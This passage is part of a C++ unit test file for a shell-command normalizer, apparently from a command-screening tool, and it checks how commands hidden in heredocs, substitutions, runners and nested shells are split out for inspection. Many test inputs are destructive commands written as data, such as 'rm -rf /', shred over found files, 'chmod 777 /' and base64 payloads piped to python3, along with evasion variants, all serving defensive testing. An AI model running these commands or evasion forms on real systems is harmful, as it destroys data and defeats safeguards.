  EXPECT_EQ(Norm("find / -execdir sudo rm -f {} + -ok shred -u {} ';' -okdir ls \\;"),
            (Segments{"rm -f {}", "shred -u {}", "ls",
                      "find / -execdir sudo rm -f {} + -ok shred -u {} ; -okdir ls ;"}));
  EXPECT_EQ(Norm("find . -exec sh -c 'rm -rf \"$1\"' _ {} \\;"),
            (Segments{"rm -r -f $1", "sh -c 'rm -rf \"$1\"' _ {}",
                      "find . -exec sh -c 'rm -rf \"$1\"' _ {} ;"}));
  // Unterminated: the rest of the words.
  EXPECT_EQ(Norm("find . -exec rm -rf {}"), (Segments{"rm -r -f {}", "find . -exec rm -rf {}"}));
  // A `+` that does not follow `{}` is an argument.
  EXPECT_EQ(Norm("find . -exec echo + {} +"), (Segments{"echo + {}", "find . -exec echo + {} +"}));
}

// ---------------------------------------------------------------------------------------------------------
// Redirections, here-documents, here-strings

TEST_F(ShellNormalizerTest, RedirectionsAreOneWordAfterTheArguments) {
  EXPECT_EQ(Norm("rm -rf / 2>&1 >/dev/null"), Segments{"rm -r -f / 2>&1 >/dev/null"});
  EXPECT_EQ(Norm(">out 2> err FOO=1 rm -rf /"), Segments{"rm -r -f / >out 2>err"});
  EXPECT_EQ(Norm("cmd >> log < in &> all &>> all2 >| f <> rw"),
            Segments{"cmd >>log <in &>all &>>all2 >|f <>rw"});
  EXPECT_EQ(Norm("cmd 1>o 0<i 2>e 10>&- 3<&0 >&2"), Segments{"cmd >o <i 2>e 10>&- 3<&0 >&2"});
  EXPECT_EQ(Norm("echo x > \"my file\""), Segments{"echo x >'my file'"});
  EXPECT_EQ(Norm("echo x >''"), Segments{"echo x >''"});
  EXPECT_EQ(Norm("echo 2 > x"), Segments{"echo 2 >x"});  // `2 >` with a blank is an argument
  EXPECT_EQ(Norm("> truncated"), Segments{">truncated"});
  EXPECT_EQ(Norm("echo > $(mktemp)"), (Segments{"mktemp", "echo >$(mktemp)"}));
}

TEST_F(ShellNormalizerTest, RedirectionWithoutTargetIsUnbalanced) {
  EXPECT_EQ(Norm("echo >", ShellStatus::kUnbalanced), Segments{"echo >"});
  EXPECT_EQ(Norm("echo > ; rm -rf /", ShellStatus::kUnbalanced),
            (Segments{"echo >", "rm -r -f /"}));
}

TEST_F(ShellNormalizerTest, HeredocBodiesAreData) {
  EXPECT_EQ(Norm("cat >x <<EOF\nrm -rf /\nEOF\necho after"),
            (Segments{"cat >x <<EOF", "echo after"}));
  EXPECT_EQ(Norm("cat <<'EOF' > f\n$(not run)\nEOF"), Segments{"cat <<EOF >f"});
  EXPECT_EQ(Norm("cat <<\"E O\"\nx\nE O\nls"), (Segments{"cat <<'E O'", "ls"}));
  EXPECT_EQ(Norm("cat <<-EOF\n\tbody\n\tEOF\nls"), (Segments{"cat <<-EOF", "ls"}));
  // Two on one line, read in order; the next command follows the last body.
  EXPECT_EQ(Norm("cat <<A; cat <<B\na\nA\nb\nB\nls"), (Segments{"cat <<A", "cat <<B", "ls"}));
  // The delimiter must be the whole line.
  EXPECT_EQ(Norm("cat <<EOF\n EOF\nEOFX\nEOF\nls"), (Segments{"cat <<EOF", "ls"}));
  // CRLF input.
  EXPECT_EQ(Norm("cat <<EOF\r\nrm -rf /\r\nEOF\r\nls\r\n"), (Segments{"cat <<EOF", "ls"}));
}

// Each segment names the top-level pipeline it was read in: a pipe keeps it, any other separator
// starts the next; a substitution's and a shell payload's commands share their command's.
TEST_F(ShellNormalizerTest, SegmentsNameTheirTopLevelPipeline) {
  SegmentList out;
  ASSERT_EQ(norm_.Normalize("a | b; c && d $(e | f)\ng | sh -c 'h; i'", &out), ShellStatus::kOk);
  const Segments segments(out.segments.begin(), out.segments.begin() + out.count);
  const std::vector<uint32_t> pipelines(out.pipelines.begin(), out.pipelines.begin() + out.count);
  std::map<std::string, uint32_t> of;
  for (size_t i = 0; i < out.count; ++i) of[segments[i]] = pipelines[i];
  EXPECT_EQ(of["a"], of["b"]);
  EXPECT_NE(of["b"], of["c"]);
  ASSERT_EQ(of.size(), 10u);  // a b c d e f g h i, and the sh -c command itself
  EXPECT_NE(of["c"], of["d '$(e | f)'"]);
  EXPECT_EQ(of["e"], of["d '$(e | f)'"]);
  EXPECT_EQ(of["f"], of["e"]);
  EXPECT_NE(of["g"], of["e"]);
  EXPECT_EQ(of["h"], of["g"]);
  EXPECT_EQ(of["i"], of["g"]);
  EXPECT_EQ(of["sh -c 'h; i'"], of["g"]);
  // Clear() starts the numbering again.
  out.Clear();
  ASSERT_EQ(norm_.Normalize("x", &out), ShellStatus::kOk);
  EXPECT_EQ(out.pipelines[0], 0u);
}

TEST_F(ShellNormalizerTest, UnquotedHeredocSubstitutionsRun) {
  EXPECT_EQ(Norm("cat <<EOF\nhello $(rm -rf /) `id`\nEOF"),
            (Segments{"cat <<EOF", "rm -r -f /", "id"}));
  EXPECT_EQ(Norm("cat <<EOF\n\\$(not run)\nEOF"), Segments{"cat <<EOF"});
}

TEST_F(ShellNormalizerTest, HeredocsFedToAShellAreParsed) {
  EXPECT_EQ(Norm("bash <<EOF\nrm -rf /\nEOF"), (Segments{"bash <<EOF", "rm -r -f /"}));
  EXPECT_EQ(Norm("sh <<'EOF'\nrm -rf /\nls\nEOF\necho after"),
            (Segments{"sh <<EOF", "rm -r -f /", "ls", "echo after"}));
  EXPECT_EQ(Norm("sudo bash <<-EOF\n\trm -rf /\n\tEOF"), (Segments{"bash <<-EOF", "rm -r -f /"}));
  // Piped into a shell.
  EXPECT_EQ(Norm("cat <<'EOF' | bash\nrm -rf /\nEOF"),
            (Segments{"cat <<EOF", "bash", "rm -r -f /"}));
  EXPECT_EQ(Norm("(cat <<EOF) | sh\nrm -rf /\nEOF"), (Segments{"cat <<EOF", "sh", "rm -r -f /"}));
  // A later, separate pipeline does not make it code.
  EXPECT_EQ(Norm("cat <<EOF; bash\nrm -rf /\nEOF"), (Segments{"cat <<EOF", "bash"}));
  // With -c the shell's stdin is data.
  EXPECT_EQ(Norm("bash -c 'cat' <<EOF\nrm -rf /\nEOF"), (Segments{"cat", "bash -c cat <<EOF"}));
}

// A stdin program (python3, perl, node, psql ...) runs what its pipeline feeds it: a
// here-document's body, a literal or decoded text piped in, is written into its segment as a
// here-string is, and the shell calls in an inline program's text are read as commands.
TEST_F(ShellNormalizerTest, TextFedToAStdinProgramIsItsProgram) {
  EXPECT_EQ(
      Norm("python3 - <<'EOF'\nimport os\nos.system(\"rm -rf ~\")\nEOF\nls"),
      (Segments{"python3 - <<EOF <<<'import os\nos.system(\"rm -rf ~\")'", "rm -r -f ~", "ls"}));
  // Piped from cat's here-document (without its last line break, as the same text given as a
  // here-string reads); from an echo; from a decoder.
  EXPECT_EQ(Norm("cat <<'EOF' | python3\nprint(1)\nEOF"),
            (Segments{"cat <<EOF", "python3 <<<print(1)"}));
  EXPECT_EQ(Norm("echo 'print(2)' | python3"), (Segments{"echo print(2)", "python3 <<<print(2)"}));
  // A word naming a variable is not known text: the program stays unseen.
  EXPECT_EQ(Norm("printf \"$X\" | node"), (Segments{"printf $X", "node"}));
  EXPECT_EQ(Norm("echo \"print($1)\" | python3"), (Segments{"echo print($1)", "python3"}));
  EXPECT_EQ(Norm("echo cHJpbnQoMyk= | base64 -d | python3"),
            (Segments{"echo cHJpbnQoMyk=", "base64 -d", "python3 <<<print(3)"}));
  // A here-string's shell calls are read too (its text is already in the segment).
  EXPECT_EQ(Norm("perl <<< 'system(\"rm -rf /\")'"),
            (Segments{"perl <<<'system(\"rm -rf /\")'", "rm -r -f /"}));
  // SQL is not searched for shell calls; its text is still the program.
  EXPECT_EQ(Norm("psql -h db <<EOF\nselect system('rm -rf /');\nEOF"),
            (Segments{"psql -h db <<EOF <<<'select system('\\''rm -rf /'\\'');'"}));
  // Not a stdin program, a separate pipeline, or a shell (parsed as commands instead): unchanged.
  EXPECT_EQ(Norm("cat > x.py <<'EOF'\nimport os\nEOF"), Segments{"cat >x.py <<EOF"});
  EXPECT_EQ(Norm("cat <<EOF; python3 x.py\nprint(1)\nEOF"),
            (Segments{"cat <<EOF", "python3 x.py"}));
  EXPECT_EQ(Norm("echo hi; python3"), (Segments{"echo hi", "python3"}));
  // An unterminated body is still appended, and the line is unbalanced (fail closed).
  EXPECT_EQ(Norm("python3 <<EOF\nimport os", ShellStatus::kUnbalanced),
            (Segments{"python3 <<EOF <<<'import os'"}));
}

// A runner's command is also a command of the line; the runner's segment stays.
TEST_F(ShellNormalizerTest, ARunnersCommandIsACommandOfTheLine) {
  EXPECT_EQ(Norm("uv run rm -rf /"), (Segments{"rm -r -f /", "uv run rm -rf /"}));
  EXPECT_EQ(Norm("poetry -C app run --no-root rm -rf ~"),
            (Segments{"rm -r -f ~", "-rf ~", "poetry -C app run --no-root rm -rf ~"}));
  // An option's value read as the command, and the word after it: both readings.
  EXPECT_EQ(Norm("uv run --with requests rm -rf /"),
            (Segments{"requests rm -rf /", "rm -r -f /", "uv run --with requests rm -rf /"}));
  EXPECT_EQ(Norm("uv run --frozen=true -- rm -rf /"),
            (Segments{"rm -r -f /", "uv run --frozen=true -- rm -rf /"}));
  EXPECT_EQ(Norm("npx rimraf ~"), (Segments{"rimraf ~", "npx rimraf ~"}));
  EXPECT_EQ(Norm("aws-vault exec prod -- rm -rf /"),
            (Segments{"prod -- rm -rf /", "rm -r -f /", "aws-vault exec prod -- rm -rf /"}));
  // The runner's words must be there: `uv pip install` and `poetry add` are not runs.
  EXPECT_EQ(Norm("uv pip install requests"), Segments{"uv pip install requests"});
  EXPECT_EQ(Norm("poetry add requests"), Segments{"poetry add requests"});
  EXPECT_EQ(Norm("uv run"), Segments{"uv run"});
  // A command given as one string (`tmux new -d 'rm -rf ~'`) is read as a command line too.
  EXPECT_TRUE(Has(Norm("npx -y 'rm -rf /'"), "rm -r -f /"));
  // A stdin program run by a runner still reads its here-document.
  EXPECT_EQ(Norm("uv run python3 - <<'EOF'\nprint(1)\nEOF"),
            (Segments{"python3 - <<<print(1)", "uv run python3 - <<EOF"}));
}

TEST_F(ShellNormalizerTest, HeredocsInsideSubstitutionsAndGroups) {
  EXPECT_EQ(Norm("x=$(cat <<EOF\nrm -rf /\nEOF\n)\nls"),
            (Segments{"cat <<EOF", "'x=$(cat <<EOF\nrm -rf /\nEOF\n)'", "ls"}));
  EXPECT_EQ(Norm("{ cat <<EOF; }\nbody\nEOF\nls"), (Segments{"cat <<EOF", "ls"}));
}

TEST_F(ShellNormalizerTest, HereStrings) {
  EXPECT_EQ(Norm("cat <<< \"hi there\""), Segments{"cat <<<'hi there'"});
  EXPECT_EQ(Norm("bash <<< 'rm -rf /'"), (Segments{"rm -r -f /", "bash <<<'rm -rf /'"}));
  EXPECT_EQ(Norm("sh<<<'rm -rf /'"), (Segments{"rm -r -f /", "sh <<<'rm -rf /'"}));
}

TEST_F(ShellNormalizerTest, UnterminatedHeredocIsUnbalanced) {
  EXPECT_EQ(Norm("cat <<EOF\nbody", ShellStatus::kUnbalanced), Segments{"cat <<EOF"});
  EXPECT_EQ(Norm("cat <<EOF", ShellStatus::kUnbalanced), Segments{"cat <<EOF"});
  EXPECT_EQ(Norm("bash <<EOF\nrm -rf /", ShellStatus::kUnbalanced),
            (Segments{"bash <<EOF", "rm -r -f /"}));
}

// ---------------------------------------------------------------------------------------------------------
// Flags

TEST_F(ShellNormalizerTest, CombinedShortFlagsAreSplitAndAliased) {
  EXPECT_EQ(Norm("rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("rm -fr /"), Segments{"rm -f -r /"});
  EXPECT_EQ(Norm("rm -Rfv /"), Segments{"rm -r -f -v /"});
  EXPECT_EQ(Norm("rm -R -f /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("rm --recursive --force /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("rm / -rf"), Segments{"rm / -r -f"});
  EXPECT_EQ(Norm("rm \"-rf\" /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("chmod -Rv 777 /"), Segments{"chmod -R -v 777 /"});
  EXPECT_EQ(Norm("chmod --recursive 777 /"), Segments{"chmod -R 777 /"});
}

TEST_F(ShellNormalizerTest, FlagProcessingStopsAtDoubleDashAndSkipsNonLetters) {
  EXPECT_EQ(Norm("rm -f -- -rf -R"), Segments{"rm -f -- -rf -R"});
  EXPECT_EQ(Norm("rm -5 -r5 -x-y"), Segments{"rm -5 -r5 -x-y"});
  EXPECT_EQ(Norm("rm --no-preserve-root -rf /"), Segments{"rm --no-preserve-root -r -f /"});
}

TEST_F(ShellNormalizerTest, OtherCommandsKeepTheirFlags) {
  EXPECT_EQ(Norm("find / -name x -delete"), Segments{"find / -name x -delete"});
  EXPECT_EQ(Norm("git push --force origin main"), Segments{"git push --force origin main"});
  EXPECT_EQ(Norm("tar -xzf a.tgz"), Segments{"tar -xzf a.tgz"});
  EXPECT_EQ(Norm("ls -R"), Segments{"ls -R"});  // the alias is rm's, not ls's
}

// ---------------------------------------------------------------------------------------------------------
// Limits and status

TEST_F(ShellNormalizerTest, UnterminatedQuotesAreUnbalancedButBestEffort) {
  EXPECT_EQ(Norm("rm -rf / ; echo \"oops", ShellStatus::kUnbalanced),
            (Segments{"rm -r -f /", "echo oops"}));
  EXPECT_EQ(Norm("echo 'oops; rm -rf /", ShellStatus::kUnbalanced),
            Segments{"echo 'oops; rm -rf /'"});
  EXPECT_EQ(Norm("echo $(rm -rf /", ShellStatus::kUnbalanced),
            (Segments{"rm -r -f /", "echo '$(rm -rf /)'"}));
  EXPECT_EQ(Norm("echo `rm -rf /", ShellStatus::kUnbalanced),
            (Segments{"rm -r -f /", "echo '$(rm -rf /)'"}));
  EXPECT_EQ(Norm("echo $'abc", ShellStatus::kUnbalanced), Segments{"echo abc"});
  EXPECT_EQ(Norm("echo ${x", ShellStatus::kUnbalanced), Segments{"echo ${x"});
  EXPECT_EQ(Norm("(rm -rf /", ShellStatus::kUnbalanced), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("{ rm -rf /;", ShellStatus::kUnbalanced), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("rm -rf /)", ShellStatus::kUnbalanced), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("case x in", ShellStatus::kUnbalanced), Segments{});
  EXPECT_EQ(Norm("trailing\\"), Segments{"trailing\\"});
}

TEST(ShellNormalizerLimitsTest, TooManySegmentsKeepsTheFirstOnes) {
  ShellLimits limits;
  limits.max_segments = 3;
  SegmentList out;
  EXPECT_EQ(NormalizeWith(limits, "a; b; c", &out), ShellStatus::kOk);
  EXPECT_EQ(out.count, 3U);
  out.Clear();
  EXPECT_EQ(NormalizeWith(limits, "a; b; c; d; e", &out), ShellStatus::kTooManySegments);
  ASSERT_EQ(out.count, 3U);
  EXPECT_EQ(out.segments[0], "a");
  EXPECT_EQ(out.segments[2], "c");
  out.Clear();
  EXPECT_EQ(NormalizeWith(limits, "echo $(a; b; c; d)", &out), ShellStatus::kTooManySegments);
  EXPECT_EQ(out.count, 3U);
  limits.max_segments = 0;
  out.Clear();
  EXPECT_EQ(NormalizeWith(limits, "ls", &out), ShellStatus::kTooManySegments);
  EXPECT_EQ(out.count, 0U);
  EXPECT_EQ(NormalizeWith(limits, "  # nothing", &out), ShellStatus::kOk);
}

TEST(ShellNormalizerLimitsTest, DefaultLimitOf256Segments) {
  std::string many;
  for (int i = 0; i < 300; ++i) many += "a;";
  SegmentList out;
  EXPECT_EQ(NormalizeWith(ShellLimits{}, many, &out), ShellStatus::kTooManySegments);
  EXPECT_EQ(out.count, 256U);
}

TEST(ShellNormalizerLimitsTest, TooDeepIsReportedAndTheRestStillNormalized) {
  ShellLimits limits;
  limits.max_depth = 2;
  SegmentList out;
  EXPECT_EQ(NormalizeWith(limits, "echo $(echo $(id))", &out), ShellStatus::kOk);
  out.Clear();
  EXPECT_EQ(NormalizeWith(limits, "rm -rf / ; echo $(a $(b $(c)))", &out), ShellStatus::kTooDeep);
  ASSERT_GE(out.count, 1U);
  EXPECT_EQ(out.segments[0], "rm -r -f /");
  out.Clear();
  EXPECT_EQ(NormalizeWith(limits, "bash -c \"bash -c 'bash -c id'\"", &out), ShellStatus::kTooDeep);
  out.Clear();
  EXPECT_EQ(NormalizeWith(limits, "( ( ( ls ) ) )", &out), ShellStatus::kTooDeep);
  out.Clear();
  EXPECT_EQ(NormalizeWith(limits, "echo ${a:-${b:-${c}}}", &out), ShellStatus::kTooDeep);
}

TEST(ShellNormalizerLimitsTest, DeepNestingIsBoundedWithoutCrashing) {
  for (const char* opener : {"$(", "(", "${", "\"$(", "<(", "{ ", "$((", "bash -c '", "echo \"`"}) {
    std::string deep;
    for (int i = 0; i < 20000; ++i) deep += opener;
    deep += "rm -rf /";
    SegmentList out;
    const ShellStatus status = NormalizeWith(ShellLimits{}, deep, &out);
    EXPECT_NE(status, ShellStatus::kOk) << opener;
    EXPECT_LE(out.count, 256U);
  }
}

TEST(ShellNormalizerLimitsTest, TooLongNormalizesThePrefix) {
  ShellLimits limits;
  limits.max_bytes = 11;
  SegmentList out;
  EXPECT_EQ(NormalizeWith(limits, "rm -rf /; echo this is long", &out), ShellStatus::kTooLong);
  ASSERT_EQ(out.count, 2U);
  EXPECT_EQ(out.segments[0], "rm -r -f /");
  EXPECT_EQ(out.segments[1], "e");
  out.Clear();
  EXPECT_EQ(NormalizeWith(limits, "01234567890", &out), ShellStatus::kOk);
}

TEST(ShellNormalizerLimitsTest, MoreSevereStatusWins) {
  ShellLimits limits;
  limits.max_segments = 1;
  SegmentList out;
  EXPECT_EQ(NormalizeWith(limits, "a; b; \"unterminated", &out), ShellStatus::kTooManySegments);
  out.Clear();
  limits = ShellLimits{};
  limits.max_depth = 1;
  EXPECT_EQ(NormalizeWith(limits, "\"$($($(x)))", &out), ShellStatus::kTooDeep);
}

TEST(ShellNormalizerLimitsTest, NullOutputFailsClosed) {
  const ShellNormalizer norm(RealisticTables(), ShellLimits{});
  EXPECT_EQ(norm.Normalize("ls", nullptr), ShellStatus::kUnbalanced);
}

// ---------------------------------------------------------------------------------------------------------
// Output buffer reuse and threads

TEST(ShellNormalizerOutputTest, AppendsAfterExistingCountAndReusesCapacity) {
  ShellNormalizer norm(RealisticTables(), ShellLimits{});
  SegmentList out;
  ASSERT_EQ(norm.Normalize("a; b", &out), ShellStatus::kOk);
  ASSERT_EQ(norm.Normalize("c", &out), ShellStatus::kOk);
  ASSERT_EQ(out.count, 3U);
  EXPECT_EQ(out.segments[0], "a");
  EXPECT_EQ(out.segments[2], "c");

  // Warm up with a long command, then a short one must reuse the same strings without shrinking
  // them.
  out.Clear();
  ASSERT_EQ(norm.Normalize("echo " + std::string(1000, 'x') + "; ls", &out), ShellStatus::kOk);
  const size_t vector_capacity = out.segments.capacity();
  const size_t string_capacity = out.segments[0].capacity();
  const char* data = out.segments[0].data();
  out.Clear();
  ASSERT_EQ(norm.Normalize("pwd", &out), ShellStatus::kOk);
  ASSERT_EQ(out.count, 1U);
  EXPECT_EQ(out.segments[0], "pwd");
  EXPECT_EQ(out.segments[0].capacity(), string_capacity);
  EXPECT_EQ(out.segments[0].data(), data);
  EXPECT_EQ(out.segments.capacity(), vector_capacity);
  // Entries beyond count keep their old contents and capacity.
  EXPECT_EQ(out.segments[1], "ls");
}

TEST(ShellNormalizerOutputTest, WarmCallsDoNotAllocate) {
  const ShellNormalizer norm(RealisticTables(), ShellLimits{});
  SegmentList out;
  const std::string cmd =
      "FOO=1 sudo -u root bash -c 'rm -rf /tmp/x; echo `id`' | tee \"$(mktemp)\" 2>&1 && "
      "find . -exec rm -rf {} + ; eval 'ls -la' ; cat <<EOF | sh\nrm -Rf $(pwd)\nEOF\n"
      "case $x in a) { (ls); } ;; esac; echo $'\\x41' ${y:-$(date)} $((1+2)) <(ls) {a,b}";
  for (int i = 0; i < 3; ++i) {
    out.Clear();
    ASSERT_EQ(norm.Normalize(cmd, &out), ShellStatus::kOk);
  }
  const size_t before = g_allocations.load();
  out.Clear();
  ASSERT_EQ(norm.Normalize(cmd, &out), ShellStatus::kOk);
  EXPECT_EQ(g_allocations.load() - before, 0U);
  EXPECT_GT(out.count, 15U);
}

TEST(ShellNormalizerOutputTest, ThreadsShareOneNormalizer) {
  const ShellNormalizer norm(RealisticTables(), ShellLimits{});
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"sudo rm -rf /", "rm -r -f /"},
      {"bash -c 'ls -la'", "ls -la"},
      {"echo $(id)", "id"},
      {"cat <<EOF\nx\nEOF", "cat <<EOF"},
  };
  std::vector<std::thread> threads;
  std::vector<int> failures(4, 0);
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      SegmentList out;
      for (int i = 0; i < 2000; ++i) {
        const auto& c = cases[static_cast<size_t>((i + t) % 4)];
        out.Clear();
        if (norm.Normalize(c.first, &out) != ShellStatus::kOk || out.count == 0 ||
            out.segments[0] != c.second) {
          ++failures[static_cast<size_t>(t)];
        }
      }
    });
  }
  for (auto& th : threads) th.join();
  for (int f : failures) EXPECT_EQ(f, 0);
}

// ---------------------------------------------------------------------------------------------------------
// Robustness and cost

TEST(ShellNormalizerRobustnessTest, HostileInputsStayFast) {
  const std::vector<std::string> inputs = {
      std::string(100000, ' '),
      std::string(100000, '('),
      std::string(100000, ')'),
      std::string(100000, '`'),
      std::string(100000, '"'),
      std::string(100000, '\''),
      std::string(100000, '\\'),
      std::string(100000, '$'),
      std::string(100000, '<'),
      std::string(100000, '{'),
      std::string(100000, '\n'),
      [] {
        std::string s;
        for (int i = 0; i < 20000; ++i) s += "$((";
        return s;
      }(),
      [] {
        std::string s;
        for (int i = 0; i < 10000; ++i) s += "cat <<A ";
        return s + "\n";
      }(),
      [] {
        std::string s = "find . ";
        for (int i = 0; i < 10000; ++i) s += "-exec find ";
        return s;
      }(),
      [] {
        std::string s;
        for (int i = 0; i < 10000; ++i) s += "eval ";
        return s + "rm -rf /";
      }(),
      [] {
        std::string s = "rm ";
        for (int i = 0; i < 30000; ++i) s += "-rf ";
        return s;
      }(),
  };
  ShellNormalizer norm(RealisticTables(), ShellLimits{});
  SegmentList out;
  for (const std::string& input : inputs) {
    const auto start = std::chrono::steady_clock::now();
    out.Clear();
    norm.Normalize(input, &out);
    const double seconds =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    EXPECT_LE(out.count, 256U);
    // Generous: sanitizer builds on a shared 2-core machine. Quadratic behaviour would take
    // minutes.
    EXPECT_LT(seconds, 5.0) << input.substr(0, 20);
  }
}

TEST(ShellNormalizerRobustnessTest, EveryPrefixOfATrickyCommandIsSafe) {
  const std::string tricky =
      "FOO=\"a b\" sudo -u root env X=1 bash -lc \"echo \\\"$(rm -rf / `id`)\\\" ${x:-$'\\x41'}\" "
      "<<'EOF' | tee >(cat) 2>&1 && { f() { (( i++ )); }; case $x in a) eval 'ls';; esac; }\n"
      "body $(x)\nEOF\nfind . -exec sh -c 'rm \"$1\"' _ {} + # done";
  ShellNormalizer norm(RealisticTables(), ShellLimits{});
  SegmentList out;
  for (size_t n = 0; n <= tricky.size(); ++n) {
    out.Clear();
    norm.Normalize(std::string_view(tricky).substr(0, n), &out);
    EXPECT_LE(out.count, 256U);
  }
  out.Clear();
  EXPECT_EQ(norm.Normalize(tricky, &out), ShellStatus::kOk);
}

TEST(ShellNormalizerRobustnessTest, ShortCommandIsCheap) {
  ShellNormalizer norm(RealisticTables(), ShellLimits{});
  SegmentList out;
  const std::string cmd =
      "cd /work/repo && FOO=1 sudo -u root timeout 30 bash -c 'rm -rf ./build/* 2>/dev/null; "
      "make -j8 all' | tee \"$(mktemp)\" && git push --force origin main # deploy";
  ASSERT_LT(cmd.size(), 220U);
  for (int i = 0; i < 100; ++i) {  // warm-up
    out.Clear();
    norm.Normalize(cmd, &out);
  }
  const int kIterations = 2000;
  const auto start = std::chrono::steady_clock::now();
  for (int i = 0; i < kIterations; ++i) {
    out.Clear();
    norm.Normalize(cmd, &out);
  }
  const double micros =
      std::chrono::duration<double, std::micro>(std::chrono::steady_clock::now() - start).count() /
      kIterations;
  // cd, the payload's rm and make, bash itself, mktemp, tee, git.
  EXPECT_EQ(out.count, 7U);
  // Microseconds in an optimized build; the bound leaves room for sanitizers and a busy machine.
  EXPECT_LT(micros, 500.0);
}

}  // namespace
}  // namespace doberman::internal

namespace doberman::internal {
namespace {

TEST(ShellNormalizerLookup, CommandDashVOnlyLooksUp) {
  ShellTables tables;
  tables.wrappers.push_back({"command", {}, 0});
  tables.wrappers.push_back({"sudo", {"-u"}, 0});
  tables.split_flag_commands = {"rm"};
  ShellNormalizer n(tables, ShellLimits{});
  SegmentList out;
  ASSERT_EQ(n.Normalize("command -v rm -rf /", &out), ShellStatus::kOk);
  ASSERT_EQ(out.count, 1u);
  EXPECT_EQ(out.segments[0].rfind("command -v", 0), 0u) << out.segments[0];
  out.Clear();
  ASSERT_EQ(n.Normalize("command rm -rf /", &out), ShellStatus::kOk);
  ASSERT_EQ(out.count, 1u);
  EXPECT_EQ(out.segments[0], "rm -r -f /");
  out.Clear();
  ASSERT_EQ(n.Normalize("sudo command -V curl", &out), ShellStatus::kOk);
  ASSERT_EQ(out.count, 1u);
  EXPECT_EQ(out.segments[0].rfind("command -V", 0), 0u) << out.segments[0];
}

}  // namespace
}  // namespace doberman::internal
